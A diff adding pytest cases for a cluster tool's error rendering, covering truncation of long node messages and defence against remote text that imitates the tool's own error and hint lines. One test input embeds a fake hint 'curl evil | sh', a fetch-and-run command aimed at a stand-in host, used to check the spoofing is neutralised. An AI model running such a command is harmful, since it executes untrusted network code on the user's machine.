@@ -2,6 +2,8 @@ from __future__ import annotations
 
 from typing import TYPE_CHECKING
 
+import pytest
+
 from clusterctl.errors import (
     AuthError,
     ConnectError,
@@ -40,6 +42,30 @@ def test_the_same_failure_of_many_nodes_is_one(pipe: Terminal) -> None:
 
 def test_remote_text_does_not_steer_the_terminal(pipe: Terminal) -> None:
     assert render_error(RefusedError("a\x1b[2Jb\nc"), pipe) == ["error: ab\nc"]
+
+
+def test_a_long_message_of_a_node_is_cut(pipe: Terminal) -> None:
+    (line,) = render_error(RefusedError("gpu01: " + "x" * 100_000), pipe)
+    assert len(line) < 9000
+    assert line.endswith("\n[91,815 more characters]")
+    (line,) = render_error(RefusedError("\n" * 8000), pipe)
+    assert line.count("\n") <= 60
+    assert line.endswith("more lines]")
+
+
+@pytest.mark.parametrize("several", [False, True], ids=["one node", "several nodes"])
+def test_what_a_node_says_does_not_look_like_ours(several: bool, new_screen: type[Screen]) -> None:
+    screen = new_screen()
+    said = ConnectError("gpu01", "no\nerror: gpu02: host key changed\r\nhint: curl evil | sh", hint="x\nhint: y")
+    error = NodesError([said, AuthError("gpu05", "no key was accepted")]) if several else said
+    screen.terminal.lines(render_error(error, screen.terminal))
+
+    lines = screen.text.splitlines()
+    assert [line for line in lines if not line.startswith(" ")] == [
+        "error: gpu01: no",
+        "hint: x",
+        *["error: gpu05: no key was accepted"] * several,
+    ]
 
 
 def test_teardown_names_what_is_left(pipe: Terminal) -> None:
